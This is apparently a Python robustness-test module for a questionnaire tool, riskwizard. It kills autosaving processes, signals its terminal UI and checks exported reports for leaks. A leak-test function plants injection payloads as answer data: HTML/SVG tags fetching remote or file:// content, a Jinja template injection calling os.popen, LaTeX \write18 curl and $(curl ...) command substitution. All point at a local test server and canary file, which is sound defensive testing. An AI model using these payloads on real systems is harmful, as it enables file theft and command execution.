"""Fault injection: kill -9 during autosave, SIGTERM/SIGHUP to the TUI, two instances, report leaks.

Shared by tests/hostile/test_kill.py and tools/robustness.py. Every function returns plain figures.
"""

from __future__ import annotations

import contextlib
import os
import random
import re
import select
import signal
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from riskwizard.answers import AnswerStore, leftover_temps, load_answers, recover
from riskwizard.errors import RiskwizardError

KILL_QUESTIONS = 400
MINI = Path(__file__).resolve().parent.parent / "fixtures" / "mini.yaml"

CHILD = r"""
import sys
from pathlib import Path
from riskwizard.answers import AnswerStore, new_doc, record_answer
from riskwizard.loader import load_questionnaire

path, qpath = Path(sys.argv[1]), sys.argv[2]
if sys.argv[3:] == ["slow-disk"]:  # widen the window between temp file and rename: more kills land mid-save
    import os, time
    _fsync = os.fsync
    os.fsync = lambda fd: (time.sleep(0.02), _fsync(fd))[1]
spec = load_questionnaire(qpath)
store = AnswerStore(path)
store.acquire()
doc = store.load()[0] if path.exists() else new_doc([spec], "kill test", answers_path=path)
answers = doc.answers_for(spec.id)
i = len(answers)
print("ready", i, flush=True)
while i < len(spec.questions()):
    i += 1
    qid = f"q{i:04d}"
    record_answer(doc, spec.id, spec.question(qid), expected_value(i), note=expected_note(i))
    store.save(doc)  # autosave: one answer per save
    print("saved", i, flush=True)
print("done", flush=True)
"""


def expected_value(i: int) -> str:
    return f"answer {i}: \u00e9\u2028 {'x' * (i % 7)}"


def expected_note(i: int) -> str:
    return f"note {i}\n  indented\x85 "


def _child_source() -> str:
    import inspect

    return inspect.getsource(expected_value) + inspect.getsource(expected_note) + CHILD


def write_kill_questionnaire(folder: Path, n: int = KILL_QUESTIONS) -> Path:
    lines = ["id: killtest", 'version: "1.0"', "title: Kill test", "description: Many text questions.",
             "sources:", "  - {id: s, citation: x}", "sections:", "  - id: main", "    title: Main", "    questions:"]
    lines += [f"      - {{id: q{i:04d}, type: text, prompt: Question {i}}}" for i in range(1, n + 1)]
    path = folder / "killtest.yaml"
    path.write_text("\n".join(lines) + "\n")
    return path


@dataclass
class KillStats:
    kills: int = 0
    interrupted_saves: int = 0  # kills that left a temp file behind (a save was in flight)
    saves_acknowledged: int = 0
    unreadable_before_recovery: int = 0
    unreadable_after_recovery: int = 0
    unreadable_backups: int = 0
    answers_lost: int = 0  # beyond the one in-flight save
    wrong_answers: int = 0
    leftover_temps: int = 0
    lock_refusals: int = 0
    resets: int = 0
    problems: list[str] = field(default_factory=list)

    def merge(self, other: KillStats) -> None:
        for name in ("kills", "interrupted_saves", "saves_acknowledged", "unreadable_before_recovery",
                     "unreadable_after_recovery",
                     "unreadable_backups", "answers_lost", "wrong_answers", "leftover_temps", "lock_refusals",
                     "resets"):
            setattr(self, name, getattr(self, name) + getattr(other, name))
        self.problems += other.problems

    @property
    def bad(self) -> bool:
        return bool(self.unreadable_after_recovery or self.unreadable_before_recovery or self.answers_lost
                    or self.wrong_answers or self.leftover_temps or self.lock_refusals or self.unreadable_backups)


def _readable(path: Path) -> bool:
    try:
        load_answers(path)
        return True
    except RiskwizardError:
        return False


def kill_run(folder: Path, kills: int, seed: int = 0, sig: int = signal.SIGKILL, slow_disk: bool = False) -> KillStats:
    """Start an autosaving child, kill it at a random moment, check the file; repeat ``kills`` times.

    With ``slow_disk`` every fsync in the child takes 20 ms longer, so many kills land between the
    temp file's creation and the rename (the case recovery exists for)."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    qpath = write_kill_questionnaire(folder)
    path = folder / "assessment.yaml"
    source = _child_source()
    stats = KillStats()
    for k in range(kills):
        proc = subprocess.Popen([sys.executable, "-c", source, str(path), str(qpath),
                                 *(["slow-disk"] if slow_disk else [])], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, cwd=folder)
        lines: list[str] = []
        ready = threading.Event()

        def reader(p: subprocess.Popen[bytes] = proc, out: list[str] = lines, ev: threading.Event = ready) -> None:
            assert p.stdout is not None
            for raw in p.stdout:
                out.append(raw.decode().strip())
                if out[-1].startswith(("ready", "done")):
                    ev.set()
            ev.set()

        t = threading.Thread(target=reader, daemon=True)
        t.start()
        ready.wait(30)
        time.sleep(rng.uniform(0, 0.25))
        with contextlib.suppress(ProcessLookupError):
            os.kill(proc.pid, sig)
        proc.wait(30)
        t.join(10)
        err = proc.stderr.read().decode("utf-8", "replace") if proc.stderr else ""
        if "LockedError" in err or "open in another riskwizard" in err:
            stats.lock_refusals += 1
            stats.problems.append(f"kill {k}: the restarted child found the file locked")
        stats.kills += 1
        # A line cut off by the kill ("saved" without its number) was never a complete acknowledgement.
        saved = [int(m[1]) for x in lines if (m := _ACK.match(x.strip())) and m[0].startswith("saved")]
        started = next((int(m[1]) for x in lines if (m := _ACK.match(x.strip())) and m[0].startswith("ready")),
                       None)
        acked = max(saved, default=None)
        if acked is None:
            acked = started if started is not None else _count(path)
        stats.saves_acknowledged += len(saved)
        if leftover_temps(path):
            stats.interrupted_saves += 1
        if path.exists() and not _readable(path):
            stats.unreadable_before_recovery += 1
            stats.problems.append(f"kill {k}: answers file unreadable before recovery")
        try:
            recover(path)  # what opening does first; also when a killed first save left only a temp file
            doc, _ = AnswerStore(path).load() if path.exists() else (None, None)
        except RiskwizardError as exc:
            stats.unreadable_after_recovery += 1
            stats.problems.append(f"kill {k}: unreadable after recovery: {exc}")
            path.unlink()
            continue
        bak = path.with_name(path.name + ".bak")
        if bak.exists() and not _readable(bak):
            stats.unreadable_backups += 1
            stats.problems.append(f"kill {k}: backup unreadable")
        if leftover_temps(path):
            stats.leftover_temps += 1
            stats.problems.append(f"kill {k}: temp files left after recovery: {leftover_temps(path)}")
        answers = doc.answers.get("killtest", {}) if doc is not None else {}
        have = len(answers)
        if acked is not None and have < acked:
            stats.answers_lost += acked - have
            stats.problems.append(f"kill {k}: {acked} saves acknowledged, {have} answers in the file")
        for i in range(1, have + 1):
            a = answers.get(f"q{i:04d}")
            if a is None or a.value != expected_value(i) or a.note != expected_note(i):
                stats.wrong_answers += 1
                stats.problems.append(f"kill {k}: answer {i} missing or altered: {a!r}")
                break
        if have >= KILL_QUESTIONS - 5:
            stats.resets += 1
            for p in folder.glob("*assessment.yaml*"):
                p.unlink()
    return stats


def parallel_kill_runs(folder: Path, kills: int, workers: int = 2, seed: int = 0,
                       sig: int = signal.SIGKILL) -> KillStats:
    """Split the kills over ``workers`` folders; every second worker simulates a slow disk."""
    per = [kills // workers + (1 if i < kills % workers else 0) for i in range(workers)]
    results: list[KillStats] = [KillStats() for _ in range(workers)]

    def work(i: int) -> None:
        try:
            results[i] = kill_run(folder / f"run{i}", per[i], seed + i, sig, slow_disk=i % 2 == 1)
        except Exception as exc:  # a harness bug must show up as a bad figure, not a smaller run
            results[i].problems.append(f"worker {i}: harness error {type(exc).__name__}: {exc}")

    threads = [threading.Thread(target=work, args=(i,)) for i in range(workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    total = KillStats()
    for r in results:
        total.merge(r)
    return total


_ACK = re.compile(r"(?:saved|ready) (\d+)$")


def _count(path: Path) -> int:
    try:
        doc, _ = load_answers(path)
    except (RiskwizardError, OSError):
        return 0
    return len(doc.answers.get("killtest", {}))


# --------------------------------------------------------------------------- two instances

@dataclass
class TwoInstances:
    refused: bool
    message: str
    unchanged: bool


def two_instances(folder: Path) -> TwoInstances:
    """One process holds the file; a second `riskwizard` must be told and must write nothing."""
    from riskwizard.answers import new_doc
    from riskwizard.loader import load_questionnaire

    folder.mkdir(parents=True, exist_ok=True)
    q = folder / "mini.yaml"
    q.write_bytes(MINI.read_bytes())
    path = folder / "two.yaml"
    spec = load_questionnaire(q)
    doc = new_doc([spec], "first", answers_path=path)
    holder = AnswerStore(path)
    holder.acquire()
    try:
        holder.save(doc)
        before = path.read_bytes()
        script = ("import sys\nfrom riskwizard.answers import AnswerStore, new_doc\n"
                  "from riskwizard.loader import load_questionnaire\nfrom riskwizard.errors import LockedError\n"
                  "s = AnswerStore(sys.argv[1])\n"
                  "try:\n    s.acquire()\nexcept LockedError as e:\n    print(e); sys.exit(3)\n"
                  "s.save(new_doc([load_questionnaire(sys.argv[2])], 'second')); print('overwrote')\n")
        done = subprocess.run([sys.executable, "-c", script, str(path), str(q)], capture_output=True, text=True,
                              timeout=60)
        tui = _tui_second_instance(path, folder)
        message = (done.stdout + done.stderr).strip()
        refused = done.returncode == 3 and "open in another riskwizard" in message and tui[0]
        return TwoInstances(refused, message + (" | TUI: " + tui[1] if tui[1] else ""),
                            path.read_bytes() == before)
    finally:
        holder.release()


def _tui_second_instance(path: Path, folder: Path) -> tuple[bool, str]:
    """The TUI, started on a locked file, must say so (and save nothing)."""
    try:
        import riskwizard.tui.app  # noqa: F401
    except ImportError:
        return True, "TUI not available"
    pid, out = _spawn_tui(path, folder)
    text = _read_until(out, ("another riskwizard",), 20)
    _stop(pid, signal.SIGTERM)
    os.close(out)
    ok = "another riskwizard" in text
    return ok, "told (screen says: open in another riskwizard)" if ok else "no locked message on screen"


# --------------------------------------------------------------------------- TUI under a pty

def _spawn_tui(path: Path, cwd: Path) -> tuple[int, int]:
    import pty

    pid, fd = pty.fork()
    if pid == 0:  # child
        try:
            os.chdir(cwd)
            env = dict(os.environ, TERM="xterm-256color", COLUMNS="100", LINES="30")
            os.execve(sys.executable, [sys.executable, "-m", "riskwizard", str(path)], env)
        finally:
            os._exit(127)
    import fcntl
    import struct
    import termios

    with contextlib.suppress(OSError):
        fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 30, 100, 0, 0))
    return pid, fd


def _read_until(fd: int, needles: tuple[str, ...], timeout: float) -> str:
    buf = b""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        r, _, _ = select.select([fd], [], [], 0.1)
        if r:
            try:
                chunk = os.read(fd, 65536)
            except OSError:
                break
            if not chunk:
                break
            buf += chunk
            text = buf.decode("utf-8", "replace")
            if any(n in text for n in needles):
                return text
    return buf.decode("utf-8", "replace")


def _drain(fd: int, seconds: float) -> str:
    return _read_until(fd, ("\x00never\x00",), seconds)


def _stop(pid: int, sig: int, timeout: float = 15) -> int | None:
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, sig)
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            return status
        time.sleep(0.05)
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    return None


@dataclass
class TuiSignal:
    signal_name: str
    skipped: str = ""
    exit_code: int | None = None
    exit_ok: bool = False
    readable: bool = False
    answers_before: int = 0
    answers_after: int = 0
    lock_released: bool = False
    leftover_temps: int = 0
    detail: str = ""

    @property
    def bad(self) -> bool:
        return not self.skipped and not (self.exit_ok and self.readable and self.lock_released
                                         and not self.leftover_temps and self.answers_after >= self.answers_before)


def tui_signal(folder: Path, sig: int, keystrokes: bool = True) -> TuiSignal:
    """Run the TUI on a pty, answer a few questions with keystrokes, send ``sig``, check the file."""
    name = signal.Signals(sig).name
    try:
        import riskwizard.tui.app  # noqa: F401
    except ImportError as exc:
        return TuiSignal(name, skipped=f"TUI not importable: {exc}")
    from riskwizard.answers import new_doc
    from riskwizard.loader import load_questionnaire

    folder.mkdir(parents=True, exist_ok=True)
    q = folder / "mini.yaml"
    q.write_bytes(MINI.read_bytes())
    path = folder / f"tui-{name.lower()}.yaml"
    for p in folder.glob(f"*{path.name}*"):
        p.unlink()
    with AnswerStore(path) as store:
        store.save(new_doc([load_questionnaire(q)], "tui", answers_path=path))
    pid, fd = _spawn_tui(path, folder)
    result = TuiSignal(name)
    try:
        screen = _read_until(fd, ("scores people", "Scores people", "What kind"), 30)
        if "What kind" not in screen:
            result.detail = "wizard did not show the first question within 30 s"
        if keystrokes:
            for key in (b"\x14", b"\x0e", b"\x14", b"\x0e", b"\x14"):  # ctrl+t (don't know), ctrl+n (next)
                os.write(fd, key)
                _drain(fd, 0.4)
            _drain(fd, 1.0)
        result.answers_before = _answer_count(path)
        status = _stop(pid, sig)
        pid = 0
        if status is None:
            result.detail += f"; did not exit within 15 s of {name}"
        elif os.WIFEXITED(status):
            result.exit_code = os.WEXITSTATUS(status)
            result.exit_ok = result.exit_code in (0, 128 + sig)
        else:
            result.exit_code = -os.WTERMSIG(status)
            result.detail += f"; died by signal {signal.Signals(os.WTERMSIG(status)).name}"
    finally:
        if pid:
            _stop(pid, signal.SIGKILL, 5)
        os.close(fd)
    result.readable = _readable(path)
    result.answers_after = _answer_count(path)
    result.leftover_temps = len(leftover_temps(path))
    try:
        AnswerStore(path).acquire()
        result.lock_released = True
    except RiskwizardError:
        result.lock_released = False
    return result


def _answer_count(path: Path) -> int:
    try:
        doc, _ = load_answers(path)
    except (RiskwizardError, OSError):
        return -1
    return sum(len(v) for v in doc.answers.values())


# --------------------------------------------------------------------------- report leaks

CANARY = "CANARY-7f3a9c1e-do-not-embed"


@dataclass
class LeakResult:
    available: bool
    reason: str = ""
    formats: list[str] = field(default_factory=list)
    canary_bytes: int = 0
    server_hits: int = 0
    literal_payload: bool = True
    errors: list[str] = field(default_factory=list)

    @property
    def bad(self) -> bool:
        return self.available and bool(self.canary_bytes or self.server_hits or self.errors)


def _hostile_answers(folder: Path, port: int, canary_file: Path) -> Path:
    url = f"http://127.0.0.1:{port}"
    payloads = [
        f'<link rel="attachment" href="file://{canary_file}">',
        f'<img src="{url}/img.png"><img src="file://{canary_file}">',
        f'<style>@import url({url}/import.css); body{{background:url({url}/bg.png)}}</style>',
        f'url({url}/x) <iframe src="file://{canary_file}"></iframe> <object data="{url}/o">',
        f'<svg><image href="{url}/svg.png"/></svg> <script src="{url}/s.js"></script>',
        "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% include '" + str(canary_file) + "' %}",
        f"\\input{{{canary_file}}} \\write18{{curl {url}/tex}} $(curl {url}/sh)",
        f"[bold]x[/bold] [/bold] [@click=app.quit]q[/] ![img]({url}/md.png) [l](file://{canary_file})",
    ]
    q = folder / "mini.yaml"
    q.write_bytes(MINI.read_bytes())
    from riskwizard.answers import Answer, Comment, new_doc
    from riskwizard.loader import load_questionnaire

    path = folder / "leak.yaml"
    doc = new_doc([load_questionnaire(q)], payloads[0], assessor=payloads[2], answers_path=path)
    doc.system.description = payloads[3]
    doc.system.organisation = payloads[4]
    a = doc.answers_for("mini")
    a["kind"] = Answer(value="scorer", note=payloads[1])
    a["people"] = Answer(value="yes", note=payloads[5])
    a["notes"] = Answer(value="\n".join(payloads), note=payloads[6])
    a["groups"] = Answer(value=[{"name": p, "severity": 5} for p in payloads[:4]], note=payloads[7])
    doc.review.comments.append(Comment(by=payloads[2], text=payloads[3], date="2026-01-01"))
    doc.review.conditions = payloads[1]
    with AnswerStore(path) as store:
        store.save(doc)
    return path


def leak_check(folder: Path, formats: tuple[str, ...] = ("html", "pdf", "md", "tex", "json")) -> LeakResult:
    try:
        from riskwizard.reports import export_file
    except ImportError as exc:
        return LeakResult(False, f"not available ({exc})")
    folder.mkdir(parents=True, exist_ok=True)
    canary_file = folder / "secret.txt"
    canary_file.write_text(CANARY + "\n")
    hits: list[str] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(1)
                with contextlib.suppress(OSError):
                    hits.append(conn.recv(1024).decode("latin-1").split("\r\n")[0])
                    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/css\r\n\r\nbody{}")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    result = LeakResult(True)
    try:
        answers = _hostile_answers(folder, port, canary_file)
        for fmt in formats:
            out = folder / f"report.{fmt}"
            try:
                export_file(answers, fmt, out)
            except Exception as exc:  # noqa: BLE001 - any failure is a figure, not a crash of the harness
                result.errors.append(f"{fmt}: {type(exc).__name__}: {exc}")
                continue
            result.formats.append(fmt)
            data = out.read_bytes()
            result.canary_bytes += data.count(CANARY.encode())
            if fmt == "pdf":
                result.canary_bytes += _pdf_canary(data)
    finally:
        time.sleep(0.3)
        stop.set()
        server.close()
        thread.join(2)
    result.server_hits = len(hits)
    if hits:
        result.errors.append(f"server hits: {hits[:5]}")
    return result


def _pdf_canary(data: bytes) -> int:
    """Canary text inside compressed PDF streams or attachments."""
    import zlib

    count = 0
    start = 0
    while True:
        i = data.find(b"stream", start)
        if i < 0:
            break
        j = data.find(b"endstream", i)
        body = data[i + 6:j].strip(b"\r\n")
        with contextlib.suppress(zlib.error):
            count += zlib.decompress(body).count(CANARY.encode())
        start = j + 9 if j > 0 else i + 6
    try:
        from pypdf import PdfReader
    except ImportError:
        return count
    import io

    with contextlib.suppress(Exception):
        reader = PdfReader(io.BytesIO(data))
        count += sum(CANARY in (page.extract_text() or "") for page in reader.pages)
        for name, contents in (reader.attachments or {}).items():
            count += sum(CANARY.encode() in c for c in contents) + (CANARY in name)
    return count
